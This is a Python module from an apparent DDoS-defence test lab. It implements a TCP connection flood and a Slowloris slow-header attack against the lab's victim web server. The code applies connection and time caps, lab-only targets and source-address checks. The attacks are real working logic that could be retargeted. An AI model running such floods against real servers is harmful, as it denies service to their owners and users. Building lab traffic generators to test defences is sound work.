"""Connection attacks in the lab: real TCP connections to the victim's web server.

::

    report = connection_flood(count=1000, rate=500)    # 1,000 connections, 500 a second, each one request
    report = slow_attack(count=150, seconds=12, every=3)  # 150 connections held open, a header line every 3 s

Both run from the lab client's namespace (dsl-cli): the attacker's namespace cannot
complete a handshake (the lab drops SYN-ACKs to it, see :mod:`~ddos_shield.lab.topology`).
``source`` binds them to another address of that namespace (one the caller added, in
the lab's outside prefix), so the attack has a source of its own beside the client's.
They are bounded by ``count`` connections and by time, target only the lab victim,
and close every socket before returning.  No spoofing: a connection needs a real source.
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import time
from dataclasses import dataclass

from ddos_shield import lab
from ddos_shield.errors import LabError
from ddos_shield.lab.netns import in_netns, netns_socket

MAX_CONNECTIONS = 1000
MAX_SECONDS = 60.0


@dataclass(frozen=True)
class ConnectionReport:
    opened: int  # connections whose handshake completed
    failed: int
    seconds: float


def _open(family: int, timeout: float, *, here: bool = False, source: str | None = None) -> socket.socket | None:
    """A connection to the victim from the client's namespace (``here``: the calling
    thread is in it already), from ``source`` if given."""
    af = socket.AF_INET if family == 4 else socket.AF_INET6
    target = str(lab.VICTIM_V4 if family == 4 else lab.VICTIM_V6)
    s = socket.socket(af, socket.SOCK_STREAM) if here else netns_socket(lab.NS_CLIENT, af, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        if source is not None:
            s.bind((source, 0))
        s.connect((target, lab.VICTIM_HTTP_PORT))
    except OSError:
        s.close()
        return None
    return s


def _check(count: int, seconds: float, source: str | None = None, family: int = 4) -> None:
    if not 0 < count <= MAX_CONNECTIONS:
        raise LabError(f"count: expected 1..{MAX_CONNECTIONS} connections, got {count!r}")
    if not 0 < seconds <= MAX_SECONDS:
        raise LabError(f"seconds: expected a number in (0, {MAX_SECONDS}], got {seconds!r}")
    if source is not None:
        outside = lab.OUTSIDE_V4 if family == 4 else lab.OUTSIDE_V6
        try:
            ok = ipaddress.ip_address(source) in outside
        except ValueError:
            ok = False
        if not ok:
            raise LabError(f"source: expected an address in the lab's outside prefix {outside}, got {source!r}")


def connection_flood(
    count: int,
    rate: float,
    family: int = 4,
    *,
    source: str | None = None,
    connect_timeout: float = 1.0,
    max_seconds: float = MAX_SECONDS,
) -> ConnectionReport:
    """Open ``count`` connections at ``rate`` a second, each sending one request and closing;
    each attempt given up after ``connect_timeout``, the flood after ``max_seconds`` (a
    flood that is being dropped would otherwise wait out every attempt)."""
    _check(count, count / rate, source, family)
    _check(count, max_seconds)
    opened = failed = 0
    # one switch into the client's namespace for the whole flood: entering it for each
    # socket costs milliseconds, more than a connection at hundreds a second
    with in_netns(lab.NS_CLIENT):
        t0 = time.monotonic()
        for i in range(count):
            if time.monotonic() - t0 >= max_seconds:
                break
            delay = t0 + i / rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            s = _open(family, timeout=connect_timeout, here=True, source=source)
            if s is None:
                failed += 1
                continue
            opened += 1
            with contextlib.closing(s), contextlib.suppress(OSError):
                s.sendall(b"GET / HTTP/1.0\r\nHost: victim\r\n\r\n")
        return ConnectionReport(opened, failed, time.monotonic() - t0)


def slow_attack(
    count: int, seconds: float, every: float, family: int = 4, *, source: str | None = None
) -> ConnectionReport:
    """Slowloris: open ``count`` connections with an unfinished request and keep each alive
    with one header line every ``every`` seconds for ``seconds``; then close them all."""
    _check(count, seconds, source, family)
    t0 = time.monotonic()
    socks: list[socket.socket] = []
    failed = 0
    try:
        for _ in range(count):
            s = _open(family, timeout=1.0, source=source)
            if s is None:
                failed += 1
                continue
            with contextlib.suppress(OSError):
                s.sendall(b"GET / HTTP/1.1\r\nHost: victim\r\n")
            socks.append(s)
        n = 0
        while time.monotonic() - t0 < seconds:
            time.sleep(min(every, max(0.0, seconds - (time.monotonic() - t0))))
            n += 1
            for s in socks:
                with contextlib.suppress(OSError):
                    s.sendall(f"X-Keep-{n}: a\r\n".encode())
    finally:
        for s in socks:
            s.close()
    return ConnectionReport(len(socks), failed, time.monotonic() - t0)
